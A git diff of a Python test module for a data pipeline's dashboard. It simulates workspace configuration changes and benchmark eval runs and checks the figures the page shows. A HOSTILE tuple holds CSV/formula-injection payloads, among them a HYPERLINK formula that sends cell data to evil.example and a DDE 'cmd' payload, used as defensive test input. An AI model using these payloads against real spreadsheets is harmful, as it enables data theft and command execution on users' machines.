@@ -18,6 +18,7 @@ import json
 import re
 from collections import Counter, defaultdict
 from collections.abc import Callable
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -27,7 +28,7 @@ from genie_obs_dagster.dashboard.pack import unpack
 from genie_obs_dagster.sandbox.server.wire import SQL_STATUSES
 
 from .browser import chromium_or_skip, dump_dom
-from .conftest import WORKSPACES
+from .conftest import START, WORKSPACES
 from .test_marts import Truth, World, _items, close, dashboard_file, percentile_cont, rate, truth, world  # noqa: F401
 
 FILTERS = ("all", *WORKSPACES)
@@ -451,6 +452,207 @@ def test_what_changed_in_each_configuration_version_is_true(world: World) -> Non
         (s.space_id, 2, "added", "sample_question", "Added later?"),
         (s.space_id, 2, "removed", "title", s.title.removesuffix(" (v2)")),
         (s.space_id, 2, "added", "title", s.title)}
+
+
+# -- the space lifecycle: configuration changes and benchmark (eval) runs, from a pipeline run --------------------
+
+LIFECYCLE_CHANGES = {WORKSPACES[0]: 1, WORKSPACES[1]: 3}  # the day of the scenario a space of each workspace changes
+EVAL_DAYS = (0, 2)  # eval ticks (06:00 UTC): every space with benchmarks and a schedule is evaluated on both
+HOSTILE = ('=HYPERLINK("https://evil.example/payload?d="&A1,"Open the report")', "@SUM(1+1)*cmd|' /C calc'!A0 payload",
+           "+1+1 payload: revenue by region?", "-1+1 payload: orders by week?")  # questions that look like formulas
+
+
+@dataclass(frozen=True)
+class Lifecycle:
+    """A pipeline run against simulated workspaces holding configuration changes and benchmark runs (the
+    simulated workspaces are stopped once the page is written: what the tests read is on disk or here)."""
+
+    page: Path
+    changes: list[dict[str, Any]]  # mart_space_config_changes, every column
+    runs: list[dict[str, Any]]  # mart_eval_accuracy, every column
+    changed: dict[tuple[str, str], dt.datetime]  # the configuration changes made: (workspace, space) -> when
+    simulated: dict[str, tuple[str, str, dt.datetime, tuple[str, ...]]]  # every eval run the workspaces made:
+    # id -> (workspace, space, created, assessments in order)
+    messages: list[Any]  # the scenario's messages
+    no_benchmarks: tuple[str, str]  # a space without benchmark questions
+    schedule_off: tuple[str, str]  # a space with benchmarks whose eval schedule is null in the settings
+
+    def start(self, day: int) -> dt.date:
+        return START + dt.timedelta(days=day)
+
+
+class _Clock:
+    """The simulated workspaces' clock: real time unless set (eval runs progress on it)."""
+
+    def __init__(self) -> None:
+        self.fixed: dt.datetime | None = None
+
+    def __call__(self) -> dt.datetime:
+        return self.fixed or dt.datetime.now(dt.timezone.utc)
+
+
+_LIFECYCLE: dict[str, Lifecycle] = {}
+
+
+def lifecycle_world(tmp_path_factory: pytest.TempPathFactory) -> Lifecycle:
+    """Built once per test session (the browser tests read the same page): ingest both workspaces, change one
+    space of each (at noon of its day, then fetched), run benchmarks on EVAL_DAYS, build the marts and the page."""
+    if "built" in _LIFECYCLE:
+        return _LIFECYCLE["built"]
+    from genie_obs_dagster.assets.evals import AS_OF_TAG, EVAL_JOB
+    from genie_obs_dagster.sandbox.server import SimConfig, SimulatedDatabricks, WorkspaceFaults
+    from genie_obs_dagster.sandbox.server.evals import (
+        EvalTiming,
+        benchmark_questions,
+        set_eval_timing,
+        store_of,
+    )
+
+    from .conftest import ApiEnv, make_scenario
+
+    scenario = make_scenario()
+    asked = {(m.workspace_id, m.space_id) for m in scenario.messages}
+    spaces = {ws: [s for s in scenario.spaces if s.workspace_id == ws and (ws, s.space_id) in asked and benchmark_questions(s)]
+              for ws in WORKSPACES}
+    changed_spaces = {ws: spaces[ws][0] for ws in WORKSPACES}
+    bare, off = spaces[WORKSPACES[0]][1], spaces[WORKSPACES[1]][1]
+    bare.serialized_space["benchmarks"] = {"questions": []}
+    for m, text in zip([m for m in scenario.messages if m.workspace_id == WORKSPACES[0]], HOSTILE, strict=False):
+        m.content = text
+    clock = _Clock()
+    sim = SimulatedDatabricks(scenario, SimConfig(clock=clock, faults=WorkspaceFaults(requests_per_second=None)))
+    sim.start()
+    mp = pytest.MonkeyPatch()
+    try:
+        env = ApiEnv(tmp_path_factory.mktemp("lifecycle"), scenario, sim, mp,
+                     evals={"cron": "0 5 * * *", "spaces": {off.space_id: None}})
+        env.ingest_all()
+        for ws in WORKSPACES:
+            env.refresh_spaces(ws)
+        changed = {}
+        for ws, day in LIFECYCLE_CHANGES.items():
+            space = changed_spaces[ws]
+            cfg = space.serialized_space
+            cfg["instructions"]["text_instructions"][0]["content"] = [f"Answer in EUR ({ws})."]
+            cfg["data_sources"]["tables"].pop()
+            space.update_time = dt.datetime.combine(START + dt.timedelta(days=day), dt.time(12), dt.timezone.utc)
+            env.refresh_spaces(ws)
+            changed[(ws, space.space_id)] = space.update_time
+        job = env.defs.resolve_job_def(EVAL_JOB)
+        for ws in WORKSPACES:
+            set_eval_timing(sim.app(ws).state, EvalTiming(start_delay_s=5, seconds_per_question=10, failure_rate=0.0))
+        for day in EVAL_DAYS:
+            tick = dt.datetime.combine(START + dt.timedelta(days=day), dt.time(6), dt.timezone.utc)
+            for at in (tick, tick + dt.timedelta(hours=1)):  # start the due runs, then collect them finished
+                clock.fixed = at
+                for ws in WORKSPACES:
+                    assert job.execute_in_process(instance=env.instance, partition_key=ws, tags={AS_OF_TAG: at.isoformat()}).success
+        clock.fixed = None
+        result = env.run_marts()
+        (event,) = [e for e in result.get_asset_materialization_events() if e.asset_key.to_user_string() == "genie_dashboard_html"]
+        page = Path(event.event_specific_data.materialization.metadata["path"].value)
+        simulated = {rid: (ws, r.space_id, r.created_at, tuple(q.assessment for q in r.questions))
+                     for ws in WORKSPACES for rid, r in store_of(sim.app(ws).state).runs.items()}
+
+        def mart(table: str) -> list[dict[str, Any]]:
+            cols = env.wh.columns(table)
+            return [dict(zip(cols, r, strict=True)) for r in env.wh.sql(f"SELECT {', '.join(cols)} FROM main.genie_analytics.{table}")]  # noqa: S608
+
+        built = Lifecycle(page, mart("mart_space_config_changes"), mart("mart_eval_accuracy"), changed, simulated,
+                          list(scenario.messages), (bare.workspace_id, bare.space_id), (off.workspace_id, off.space_id))
+    finally:
+        sim.stop()
+        mp.undo()
+    _LIFECYCLE["built"] = built
+    return built
+
+
+@pytest.fixture(scope="module")
+def lifecycle(tmp_path_factory: pytest.TempPathFactory) -> Lifecycle:
+    return lifecycle_world(tmp_path_factory)
+
+
+def iso(v: Any) -> Any:
+    """A mart value as the page carries it: times as ISO 8601 UTC to the second, days as ISO dates."""
+    if isinstance(v, dt.datetime):
+        return (v if v.tzinfo else v.replace(tzinfo=dt.timezone.utc)).astimezone(dt.timezone.utc).isoformat(timespec="seconds")
+    return v.isoformat() if isinstance(v, dt.date) else v
+
+
+def change_rows(changes: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    """The rows of mart_space_config_changes the page must carry (sql/dashboards/config_change_impact.sql but
+    diff_json: pack.NOT_EMBEDDED), newest first."""
+    def minus(a: float | None, b: float | None) -> float | None:
+        return None if a is None or b is None else a - b
+
+    rows = sorted(changes, key=lambda r: (r["workspace_id"], r["space_id"]))
+    rows.sort(key=lambda r: r["changed_at"], reverse=True)
+    return [{"workspace_id": r["workspace_id"], "workspace_name": r["workspace_name"] or r["workspace_id"],
+             "space_id": r["space_id"], "space": r["space_title"] or r["space_id"], "version_number": r["version_number"],
+             "changed_at": iso(r["changed_at"]), **{k: r[k] for k in (
+                 "diff_summary", "sections_changed", "items_added", "items_removed", "items_changed", "window_days",
+                 "questions_before", "success_rate_before", "negative_feedback_rate_before", "questions_after",
+                 "success_rate_after", "negative_feedback_rate_after", "success_rate_change")},
+             "negative_feedback_rate_change": minus(r["negative_feedback_rate_after"], r["negative_feedback_rate_before"])}
+            for r in rows]
+
+
+def run_rows(runs: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    """The rows of mart_eval_accuracy the page must carry (sql/dashboards/eval_accuracy.sql but eval_run_id)."""
+    return [{"workspace_id": r["workspace_id"], "space_id": r["space_id"], "space": r["space_title"] or r["space_id"],
+             **{k: iso(r[k]) for k in ("run_number", "run_date", "finished_at", "num_questions", "num_correct",
+                                       "num_needs_review", "num_bad", "accuracy", "previous_accuracy", "accuracy_change",
+                                       "is_latest")}}
+            for r in sorted(runs, key=lambda r: (r["workspace_id"], r["space_id"], r["run_number"]))]
+
+
+def test_the_page_carries_every_configuration_change_with_the_marts_before_and_after_figures(lifecycle: Lifecycle) -> None:
+    payload = embedded_payload(lifecycle.page.read_text())
+    shown = unpack(payload)["config_change_impact"]
+    assert shown == change_rows(lifecycle.changes)  # every column, in the query's order
+    assert payload["meta"]["not_embedded"]["config_change_impact"] == ["diff_json"]
+    # ... and they are the changes made: the day and hour each was made, what changed, the scenario's questions
+    assert {(r["workspace_id"], r["space_id"]): r["changed_at"] for r in shown} == {k: iso(v) for k, v in lifecycle.changed.items()}
+    week = dt.timedelta(days=7)
+    for r in shown:
+        assert (r["version_number"], r["diff_summary"]) == (2, "tables +0 -1 ~0; text_instructions +0 -0 ~1")
+        at = dt.datetime.fromisoformat(r["changed_at"])
+        mine = [m for m in lifecycle.messages if (m.workspace_id, m.space_id) == (r["workspace_id"], r["space_id"])]
+        before = [m for m in mine if at - week <= m.created_at < at]
+        after = [m for m in mine if at <= m.created_at < at + week]
+        assert before and after and (r["questions_before"], r["questions_after"]) == (len(before), len(after))
+        for side, ms in (("before", before), ("after", after)):
+            done = [m for m in ms if m.final_status in ("COMPLETED", "FAILED", "CANCELLED")]
+            assert close(r[f"success_rate_{side}"], rate(sum(m.final_status == "COMPLETED" for m in done), len(done)))
+            assert close(r[f"negative_feedback_rate_{side}"], rate(sum(m.feedback_rating == "NEGATIVE" for m in ms), len(ms)))
+        assert close(r["negative_feedback_rate_change"], r["negative_feedback_rate_after"] - r["negative_feedback_rate_before"])
+
+
+def test_the_page_carries_every_finished_eval_run_with_the_marts_accuracy(lifecycle: Lifecycle) -> None:
+    payload = embedded_payload(lifecycle.page.read_text())
+    shown = unpack(payload)["eval_accuracy"]
+    assert shown == run_rows(lifecycle.runs)
+    assert payload["meta"]["not_embedded"]["eval_accuracy"] == ["eval_run_id"]
+    assert "eval_accuracy" in payload["meta"]["lazy"] and "config_change_impact" in payload["meta"]["core"]
+    # ... and they are the runs the simulated workspaces made, in order, with the accuracy they assessed
+    per_space: dict[tuple[str, str], list[tuple[dt.datetime, tuple[str, ...]]]] = defaultdict(list)
+    for ws, space, created, assessments in lifecycle.simulated.values():
+        per_space[(ws, space)].append((created, assessments))
+    assert {(r["workspace_id"], r["space_id"]) for r in shown} == set(per_space)
+    assert lifecycle.no_benchmarks not in per_space and lifecycle.schedule_off not in per_space
+    for key, runs in per_space.items():
+        mine = [r for r in shown if (r["workspace_id"], r["space_id"]) == key]
+        assert len(runs) == len(mine) == len(EVAL_DAYS)
+        previous = None
+        for r, (created, assessments) in zip(mine, sorted(runs), strict=True):
+            good, review = assessments.count("GOOD"), assessments.count("NEEDS_REVIEW")
+            assert r["run_date"] == created.date().isoformat()
+            assert (r["num_questions"], r["num_correct"], r["num_needs_review"], r["num_bad"]) == (
+                len(assessments), good, review, len(assessments) - good - review)
+            assert close(r["accuracy"], good / len(assessments)) and close(r["previous_accuracy"], previous)
+            assert r["is_latest"] == (r is mine[-1])
+            previous = r["accuracy"]
+    assert any(r["accuracy_change"] and r["accuracy_change"] < 0 for r in shown)  # a drop, for the pages to show
 
 
 # -- the page's own numbers (needs Chromium) -----------------------------------------------------------------
